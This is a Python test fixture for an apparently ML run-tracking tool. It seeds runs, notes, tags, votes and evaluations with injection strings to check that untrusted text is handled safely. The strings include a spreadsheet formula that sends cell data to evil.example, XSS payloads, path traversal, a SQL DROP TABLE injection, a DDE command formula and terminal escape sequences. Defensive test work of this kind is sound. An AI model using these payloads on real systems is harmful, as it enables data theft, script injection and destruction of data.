"""A home of a few runs whose every text is hostile: names, notes, tags, prompts, answers, data."""

import json
from pathlib import Path
from typing import Any

from engine.history.evaluated import add_evaluation
from engine.history.ingest import ingest_all
from engine.history.marks import archive, star
from engine.history.notes import add_note, add_tag
from engine.history.store import Store, open_store
from engine.history.votes import Side, add_vote
from engine.home import Home, open_home
from engine.jobs.folder import RunFolder
from engine.recipe import load_recipe
from tests.bench import homes

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
SCRIPT = "<script>alert(1)</script>"
BREAKOUT = '</style></title><img src=x onerror="alert(1)"><svg onload=alert(1)>'
LINK = "[click](javascript:alert(1)) ![i](http://evil.example/x.png) <http://evil.example>"
TRAVERSAL = "../../../../tmp/evil"
SQL = "'; DROP TABLE runs; --"
TERMINAL = "\x1b]0;owned\x07\x1b[31m\u202eevil\u2066"
LINES = "one\n# two\n- three\n| four | five |\n```\nsix\n---\n<b>seven</b>"
HOSTILE = (FORMULA, SCRIPT, BREAKOUT, LINK, TRAVERSAL, SQL, TERMINAL, LINES, "@SUM(1+1)", "\t=1+1")
HOSTILE += (
    "-2+3+cmd|' /C calc'!A0",
    "+1",
    "'=1",
    "{{7*7}} ${7*7}",
    "&lt;b&gt; &amp;",
    "www.evil.example",
)
NAMES = (TRAVERSAL, FORMULA, SCRIPT)
STEPS = 60


def hostile_home(path: Path) -> Home:
    """Three runs with ids ``20251122-00000N-run``; the last one without a recipe."""
    home = open_home(path / "home")
    for number, name in enumerate(NAMES):
        _write_run(home, number, name)
    RunFolder(home.runs / _id(2)).recipe_file.write_text("not = [toml")
    for text in HOSTILE:
        add_note(home, _id(0), text)
    for tag in ("keep", "=1+1", "@x", "<b>bold</b>", "../up"):
        add_tag(home, _id(0), tag)
    star(home, _id(1))
    archive(home, _id(2))
    left = Side(_id(0), FORMULA, BREAKOUT)
    right = Side("base", SCRIPT, LINK)
    add_vote(home, prompt=LINES, prompt_set=SQL, left=left, right=right, verdict="left", note=LINK)
    add_evaluation(home, evaluation(_id(0), home), [0], [[[1.0, 0.1, 0.0, 3.0]] * 3])
    return home


def opened(home: Home) -> Store:
    store = open_store(home)
    ingest_all(home, store, live=False)
    return store


def _id(number: int) -> str:
    return f"20251122-{number:06d}-run"


def _write_run(home: Home, number: int, name: str) -> None:
    events = list(homes.journal(STEPS, seed=number))
    for event in events:
        if event["type"] == "metrics" and event["step"] in (7, 8, 9):
            event["loss"] = ("NaN", "Infinity", "-Infinity")[event["step"] - 7]
            event[FORMULA] = SCRIPT
        if "eval_loss" in event:
            event["eval_loss"] = 2.3 - number / 10
        if event["type"] == "state" and "max_steps" in event:
            event |= {"dataset": BREAKOUT, "gpu": SCRIPT, "versions": {"torch": FORMULA, SQL: LINK}}
    for step in (20, 40, STEPS):
        loss = 3.0 - step / 100 - number / 10
        told = {"step": step, "split": "validation", "which": "during", "loss": loss, "rows": 8}
        events.append(homes._line(homes.BEGAN + 90, "evaluation", **told))
        for prompt in HOSTILE:
            asked = {"step": step, "prompt": prompt, "reference": BREAKOUT}
            events.append(homes._line(homes.BEGAN + 91, "sample", text=LINES + prompt, **asked))
    recipe = load_recipe("demo", [f"train.learning_rate={number + 1}e-4", "lora.r=16"])
    tree = recipe.model_dump()
    tree["format"]["instruction"] = BREAKOUT
    tree["data"]["source"] = str(home.path / "secret-folder" / "rows.jsonl")
    tree["description"] = FORMULA
    toml = type(recipe).model_validate(tree).to_toml().encode()
    folder = homes.write_run(home, number, homes.as_bytes(iter(events)), toml)
    identity = folder.read_identity() | {"name": name}
    folder.identity.write_text(json.dumps(identity))


def evaluation(run: str, home: Home) -> dict[str, Any]:
    """A document as ``evaluate`` makes them, of the base, a server and the run."""
    columns = ["base", "http://10.0.0.5:8000/v1#m", run]
    values = {"rougeL": 0.25, "rougeL_ci": [0.2, 0.3], "bleu": 9.0, "bleu_ci": [8.0, 10.0]}
    values |= {"mine": 1.0, "mine_ci": [0.5, 1.5]}
    return {
        "id": "e1",
        "run": run,
        "on": "test",
        "rows": 40,
        "failed": {"rows": 1, "first": SCRIPT},
        "of_rows": 41,
        "base": "base",
        "columns": [
            {"id": columns[0], "label": str(home.path / "models" / "base")},
            {"id": columns[1], "label": "m at 10.0.0.5:8000"},
            {"id": columns[2], "label": BREAKOUT},
        ],
        "metrics": {column: values for column in columns},
        "differences": {run: {"rougeL": {"difference": 0.1, "p": 0.01}}},
        "definitions": {},
        "better": {},
        "sampling": {},
        "loss": None,
        "pairs": f"runs/{run}/evaluations/pairs-abc.jsonl",
    }
